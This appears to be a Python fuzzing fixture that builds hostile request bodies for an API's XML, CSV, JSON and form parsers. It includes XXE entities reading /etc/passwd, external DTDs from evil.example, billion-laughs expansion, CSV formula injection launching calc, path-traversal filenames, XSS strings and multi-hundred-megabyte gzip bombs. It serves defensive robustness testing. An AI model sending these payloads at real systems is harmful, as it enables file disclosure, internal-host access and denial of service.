"""Bodies for the parsers of XML, CSV, NDJSON, JSON and forms, and what is packed around them."""

import gzip
import json
import zlib
from collections.abc import Callable
from functools import partial
from typing import NamedTuple

MEBIBYTE = 1024 * 1024


class Body(NamedTuple):
    """A request's body: where it goes, how it is labelled, and what makes it (late, as some are large)."""

    path: str
    content_type: str
    make: Callable[[], bytes]
    coding: str = ""


def _process(content_type: str, data: bytes | str) -> Body:
    encoded = data if isinstance(data, bytes) else data.encode("utf-8", "surrogatepass")
    return Body("/api/v1/process", content_type, lambda: encoded)


def _predict(data: bytes | str) -> Body:
    encoded = data if isinstance(data, bytes) else data.encode("utf-8", "surrogatepass")
    return Body("/api/v1/predict", "application/json", lambda: encoded)


_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_XML: tuple[bytes | str, ...] = (
    f'<!DOCTYPE l [<!ENTITY l0 "lol">{_LAUGHS}]><l>&l9;</l>',
    '<!DOCTYPE l [<!ENTITY a "' + "x" * 50_000 + '">]><l>' + "&a;" * 5000 + "</l>",
    '<!DOCTYPE l [<!ENTITY a "&b;"><!ENTITY b "&a;">]><l>&a;</l>',
    '<!DOCTYPE l [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]><l/>',
    '<!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]><l>&a;</l>',
    '<!DOCTYPE l [<!ENTITY a SYSTEM "http://api:9464/metrics">]><l>&a;</l>',
    '<!DOCTYPE l [<!ENTITY a SYSTEM "file:///dev/zero">]><l>&a;</l>',
    '<!DOCTYPE l [<!ENTITY a SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd">]><l>&a;</l>',
    '<!DOCTYPE l SYSTEM "http://evil.example/l.dtd"><l/>', '<!DOCTYPE l PUBLIC "-//x//y" "http://evil.example/"><l/>',
    '<!DOCTYPE l [<!ATTLIST l a CDATA "' + "x" * 100_000 + '">]><l/>' ,
    "<!DOCTYPE l [" + "<!ELEMENT a ANY>" * 20_000 + "]><l/>",
    '<l xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></l>',
    '<?xml-stylesheet href="http://evil.example/x.xsl" type="text/xsl"?><l/>', "<?" + "x" * 500_000 + " y?><l/>",
    "<a>" * 100_000, "<a>" * 50_000 + "</a>" * 50_000, "<a " + " ".join(f'b{n}="c"' for n in range(20_000)) + "/>",
    "<a " + " ".join(f'xmlns:n{n}="u"' for n in range(20_000)) + "/>", '<a b="' + "x" * 2_000_000 + '"/>',
    "<" + "a" * 900_000 + "/>",
    "<l>" + "".join(f"<{'n' * 300}{n}/>" for n in range(3000)) + "</l>", "<l>" + "&#65;" * 100_000 + "</l>",
    "<l>&#x110000;</l>", "<l>&#0;</l>",
    "<l>&#xD800;</l>", "<l>&#99999999999999999999;</l>", "<l>&undefined;</l>",
    "<l><![CDATA[" + "]]" * 100_000 + "]]></l>", "<l><!--" + "-" * 100_000 + "--></l>",
    "<l><![CDATA[", "<!--", "<l", "</l>", "<l></m>", "<l/><l/>", "", " ", "x<l/>", "<l>\x00</l>", "<l>\x0b</l>",
    "<l>\ufffe</l>", "<1/>", "<l a=b/>", "<l a='1' a='2'/>",
    '<?xml version="1.0" encoding="' + "x" * 1_000_000 + '"?><l/>',
    '<?xml version="1.0" encoding="utf-7"?><l>+ADw-</l>', '<?xml version="9.9"?><l/>',
    '<?xml version="1.0" encoding="idna"?><l/>', '<?xml version="1.0" encoding="zip"?><l/>',
    '<?xml version="1.0" encoding="undefined"?><l/>', '<?xml version="1.0" encoding=""?><l/>',
    '<?xml version="1.0" encoding="punycode"?><l/>', '<?xml version="1.0" encoding="unicode_escape"?><l>\\ud800</l>',
    '<?xml version="1.0" encoding="utf-16"?><l/>', '<?xml?><l/>',
    b"\xff\xfe<\x00", b"\xfe\xff\x00<\x00l", b"\x00\x00\xfe\xff", b"\xef\xbb\xbf", b"\xef\xbb\xbf\xef\xbb\xbf<l/>",
    b"<l>\xff</l>", b"<l>\xc0\xaf</l>", b"<l>\xed\xa0\x80</l>",
    "<?xml version='1.0'?>" * 2 + "<l/>", "<l>" + "a@b.example " * 2000 + "</l>", "<l>" + "<m>4</m>" * 20_000 + "</l>",
    "<x:l/>", "<l xmlns='" + "u" * 100_000 + "'><m/></l>",
    '<html xmlns="http://www.w3.org/1999/xhtml"><script>fetch("/api/v1/jobs")</script></html>',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
)  # fmt: skip
_CSV: tuple[bytes | str, ...] = (
    '"' + "x" * 2_000_000, '"' * 100_000, '""' * 100_000, "," * 1_000_000, "\n" * 300_000, "\r" * 300_000,
    ("," * 2000 + "\n") * 200, "a,b\n" * 20_000 + '"', '"a"b"c"\n' * 5000,
    "=cmd|'/c calc'!A0\n", "@SUM(1+1)*cmd|' /C calc'!A0", "+1-1\n", "-2+3+cmd", "sep=;\n1;2",
    "sep=" + "x" * 1000 + "\n1", "\x00,\x00\n", "a\x00b,c", '"\x00"', "\ufeff" * 1000 + "a,b",
    b"\xff\xfea\x00,\x00", b"\xff\xff,\xff\n", b"\x80" * 10_000, b"\xed\xa0\x80,x", "a;b,c\td|e\n" * 3000,
    "'a','b\n" * 3000, "a,b\n1\n1,2,3\n\n\n,,,\n", "4" * 1_000_000, "a@b.example," * 3000, "", "\n", '"\n' * 9999,
)  # fmt: skip
_NDJSON: tuple[bytes | str, ...] = (
    "[" * 100_000, "[" * 100_000 + "]" * 100_000, '{"a":' * 50_000, '{"a":' * 50_000 + "1" + "}" * 50_000,
    '{"a":1,"a":2}', "{" + ",".join(f'"k{n}":{n}' for n in range(50_000)) + "}",
    '{"a":' + "9" * 100_000 + "}", '{"a":1e999999999}', '{"a":-1e-999999999}', '{"a":NaN}', '{"a":Infinity}', '{"a":-}',
    '{"a":01}', '{"a":1.}', '{"a":0x1}', '{"a":+1}', '{"a":1' + "0" * 5000 + "." + "1" * 5000 + "}",
    '"\\ud800"', '"\\udc00\\ud800"', '"\\ud800\\ud800"', '"\\u0000"', '"\\u000"', '"\\x41"', '"\x00"', '"\ud800"',
    '{"\\u0000":"\\u0000"}', '{"' + "k" * 1_000_000 + '":1}', '"' + "\\u0041" * 100_000 + '"',
    '"' + "x" * 2_000_000 + '"', '"' + "\\" * 99_999 + '"', "\n" * 300_000, "{}\n" * 50_000, "null", "nul",
    "true false", "{} {}", "{}{}", "[1,]", "{,}", '{"a"}', "'a'", "", "\ufeff{}", b"\xff", b"\xef\xbb\xbf{}",
    b'"\xc0\x80"',
    b'"\xf4\x90\x80\x80"', "// comment\n{}", "/* */ {}", '{"__proto__":{"a":1}}', '{"$ref":"file:///etc/passwd"}',
    '{"a":"a@b.example"}\n' * 1500, "[[[[[" * 200 + "]" * 1000, '{"a":1}\x1e{"a":2}', "\r\n" * 1000,
)  # fmt: skip
_JSON: tuple[bytes | str, ...] = (
    *_NDJSON, '{"text":1}', '{"text":null}', '{"text":[]}', '{"text":{}}', "{}", '{"text":""}', '{"text":"\\u0000"}',
    '{"text":"\\ud83d"}', '{"text":"a","language":"xx"}', '{"text":"a","language":"../../en"}',
    '{"text":"a","language":"' + "e" * 100_000 + '"}', '{"text":"a","min_confidence":-1}',
    '{"text":"a","min_confidence":1e308}', '{"text":"a","min_confidence":"NaN"}',
    '{"text":"a","min_confidence":' + "1" * 5000 + "}",
    '{"text":"a","min_confidence":true}', '{"text":"a","anonymize":"perhaps"}', '{"text":"a","anonymize":2}',
    '{"text":"a","text":"b"}', '{"text":"a","unknown":1}', '{"text":"' + "a" * 100_001 + '"}',
    '{"text":"' + "\u0800" * 90_000 + '"}',
    json.dumps({"text": "a\u0301" * 40_000}), json.dumps({"text": "\u202e" * 5000 + "moc.elpmaxe@a"}),
    json.dumps({"text": "\U000e0041" * 5000}), json.dumps({"text": "\ufdfa" * 3000}), '["text"]', '"text"', "1",
    "text=a", "<text>a</text>",
)  # fmt: skip
_FORM = "multipart/form-data; boundary=x"
_PART = 'Content-Disposition: form-data; name="document"; filename="a.txt"\r\nContent-Type: text/plain\r\n\r\nx\r\n'
_FORMS: tuple[tuple[str, bytes | str], ...] = (
    (_FORM, ""), (_FORM, "--x--\r\n"), (_FORM, "--x"), (_FORM, "--x\r\n"), (_FORM, "--x\r\n\r\n"),
    (_FORM, "--x\r\n" + _PART), (_FORM, f"--y\r\n{_PART}--y--\r\n"), (_FORM, f"--x\n{_PART}--x--\n"),
    (_FORM, f"--x\r\n{_PART}--x--garbage"),
    (_FORM, f"--x\r\n{_PART}" * 1001 + "--x--\r\n"), (_FORM, "--x\r\n" + "X: y\r\n" * 5000 + "\r\nx\r\n--x--\r\n"),
    (_FORM, "--x\r\nX: " + "y" * 500_000 + "\r\n\r\nx\r\n--x--\r\n"),
    (_FORM, "--x\r\nContent-Disposition: attachment\r\n\r\nx\r\n--x--\r\n"),
    (_FORM, "--x\r\n" + _PART.replace("a.txt", "../../../etc/passwd") + "--x--\r\n"),
    (_FORM, "--x\r\n" + _PART.replace("a.txt", "a" * 100_000) + "--x--\r\n"),
    (_FORM, "--x\r\n" + _PART.replace("a.txt", "\x00.txt") + "--x--\r\n"),
    (_FORM, "--x\r\n" + _PART.replace("a.txt", '<script>alert(1)</script>"') + "--x--\r\n"),
    (_FORM, "--x\r\n" + _PART.replace('"a.txt"', "utf-8''%00%ff") + "--x--\r\n"),
    (_FORM, "--x\r\n" + _PART.replace("filename", "filename*") + "--x--\r\n"),
    (_FORM, "--x\r\n" + _PART.replace("text/plain", "text/plain; charset*=utf-8''%00") + "--x--\r\n"),
    (_FORM, "--x\r\n" + _PART.replace("text/plain", "multipart/mixed; boundary=y") + "--x--\r\n"),
    (_FORM, "--x\r\n" + _PART.replace("text/plain", "\x00") + "--x--\r\n"),
    (_FORM, "--x\r\n" + _PART.replace("text/plain", "text/plain; charset=" + "z" * 9000) + "--x--\r\n"),
    (_FORM, "--x\r\n" + _PART.replace("text/plain", "application/xml") + "--x--\r\n"),
    (_FORM, "--x\r\n" + _PART.replace("name=", "nam=") + "--x--\r\n"),
    (_FORM, "--x\r\nContent-Transfer-Encoding: base64\r\n" + _PART + "--x--\r\n"),
    (_FORM, "--x\r\nContent-Length: 999999\r\n" + _PART + "--x--\r\n"), (_FORM, b"\r\n" * 100_000),
    (_FORM, b"--x\r\n" * 50_000), (_FORM, b"-" * 500_000), (_FORM, b"\x00" * 100_000),
    ("multipart/form-data", f"--x\r\n{_PART}--x--\r\n"), ("multipart/form-data; boundary=", f"--\r\n{_PART}----\r\n"),
    ('multipart/form-data; boundary="', f"--x\r\n{_PART}--x--\r\n"),
    ("multipart/form-data; boundary=" + "x" * 6000, "--" + "x" * 6000 + "--\r\n"),
    ("multipart/form-data; boundary=x; boundary=y", f"--y\r\n{_PART}--y--\r\n"),
    ("multipart/form-data; boundary*=utf-8''%00", "--\x00--\r\n"),
    ("multipart/form-data; boundary=x; charset=zip", f"--x\r\n{_PART}--x--\r\n"),
    ("multipart/mixed; boundary=x", f"--x\r\n{_PART}--x--\r\n"),
    ("multipart/form-data; boundary=a a", f"--a a\r\n{_PART}--a a--\r\n"),
    ("multipart/form-data; boundary=\\", "--\\--\r\n"), ("MULTIPART/FORM-DATA; BOUNDARY=x", f"--x\r\n{_PART}"),
)  # fmt: skip
_TYPES = (
    "", "text", "text/", "/plain", "text/plain; charset=utf-7", "text/plain; charset=zip", "text/plain; charset=idna",
    "text/plain; charset=" + "x" * 7000, "text/plain; charset*=utf-8''%00", "text/plain; charset*0=a; charset*1=b",
    "text/plain; charset=undefined", "text/plain; charset=base64", "text/plain; charset=rot13",
    "text/plain; charset=unicode_escape", "text/plain; charset=raw_unicode_escape", "text/plain; charset=mbcs",
    "text/plain; charset=..\\..\\x",
    "text/plain; charset=os.system", "text/plain; charset=\u0000".replace("\x00", "\x01"),
    "text/csv; delimiter=" + "x" * 5000, "text/csv; delimiter=%00", 'text/csv; delimiter="\\""',
    "application/xml; charset=utf-16", "application/xml; charset=zip", "image/svg+xml",
    "application/octet-stream", "application/java-archive", "application/x-www-form-urlencoded", "application/graphql",
    "message/http", "text/html", "application/xhtml+xml", "a/b" * 1000, "text/plain;" * 700,
    "text/plain, application/json", "*/*",
)  # fmt: skip


def _bomb(unit: bytes, megabytes: int) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = unit * (MEBIBYTE // len(unit))
    return b"".join([*(packer.compress(block) for _ in range(megabytes)), packer.flush()])


def _packed(content_type: str, make: Callable[[], bytes], coding: str = "gzip", path: str = "/api/v1/process") -> Body:
    return Body(path, content_type, make, coding)


def _xml_names() -> bytes:
    return gzip.compress(
        b"<l>" + b"".join(b"<" + bytes([97 + n % 26]) * (900_000 + n) + b"/>" for n in range(30)) + b"</l>"
    )


def _twice(unit: bytes) -> bytes:
    return gzip.compress(_bomb(unit, 20))


_SMALL = gzip.compress(b"a@b.example\n" * 10)
_UNITS = {"text/plain": b"a", "text/csv": b",", "application/x-ndjson": b"[", "application/xml": b"<a>"}

BODIES: dict[str, Body] = {
    **{f"XML {n}": _process("application/xml", data) for n, data in enumerate(_XML)},
    **{f"CSV {n}": _process("text/csv", data) for n, data in enumerate(_CSV)},
    **{f"NDJSON {n}": _process("application/x-ndjson", data) for n, data in enumerate(_NDJSON)},
    **{f"JSON {n}": _predict(data) for n, data in enumerate(_JSON)},
    **{f"form {n}": Body("/api/v1/jobs", kind, lambda data=data: data if isinstance(data, bytes)
    else data.encode("latin-1")) for n, (kind, data) in enumerate(_FORMS)},  # type: ignore[misc]
    **{f"type {n}": _process(kind, b"a@b.example") for n, kind in enumerate(_TYPES)},
    **{f"type of a job {n}": Body("/api/v1/jobs", kind, lambda: b"a@b.example") for n, kind in enumerate(_TYPES)},
}  # fmt: skip
"""Cheap ones: each is answered at once."""

BOMBS: dict[str, Body] = {
    **{f"300 MB of {kind}": _packed(kind, partial(_bomb, unit, 299)) for kind, unit in _UNITS.items()},
    **{f"400 MB of {kind}": _packed(kind, partial(_bomb, unit, 400)) for kind, unit in _UNITS.items()},
    **{f"a bomb in a bomb of {kind}": _packed(kind, partial(_twice, unit)) for kind, unit in _UNITS.items()},
    **{f"300 MB of {kind} as a job": _packed(kind, partial(_bomb, unit, 299), path="/api/v1/jobs") for kind,
    unit in _UNITS.items()},
    "names of 900,000 characters": _packed("application/xml", _xml_names),
    "a thousand members": _packed("text/plain", lambda: _SMALL * 1000),
    "empty members": _packed("text/plain", lambda: gzip.compress(b"") * 20_000),
    "cut short": _packed("text/plain", lambda: _SMALL[:-9]),
    "wrong checksum": _packed("text/plain", lambda: _SMALL[:-8] + b"\x00" * 8),
    "garbage behind": _packed("text/plain", lambda: _SMALL + b"garbage"),
    "a name without end": _packed("text/plain", lambda: b"\x1f\x8b\x08\x08\x00\x00\x00\x00\x00\x03" + b"x" * MEBIBYTE),
    "no gzip at all": _packed("text/plain", lambda: b"plain"),
    "nothing": _packed("text/plain", lambda: b""),
    "deflate": _packed("text/plain", lambda: zlib.compress(b"a" * 50 * MEBIBYTE, 9), "deflate"),
    "raw deflate": _packed("text/plain", lambda: zlib.compress(b"a" * MEBIBYTE, 9)[2:-4], "deflate"),
    "a dictionary is wanted": _packed("text/plain", lambda: b"\x78\xbb\x00\x00\x00\x01abc", "deflate"),
    **{f"coding {coding}": _packed("text/plain", lambda: _SMALL, coding) for coding in (
        "gzip, gzip", "gzip,deflate", "br", "zstd", "compress", "identity", "x-gzip", "chunked", "GZIP", "gzip;q=1",
        "*", "\xa0gzip", ("gzip " * 500).strip(),
    )},
}  # fmt: skip
"""Costly ones: what they unpack to, or what packs them."""
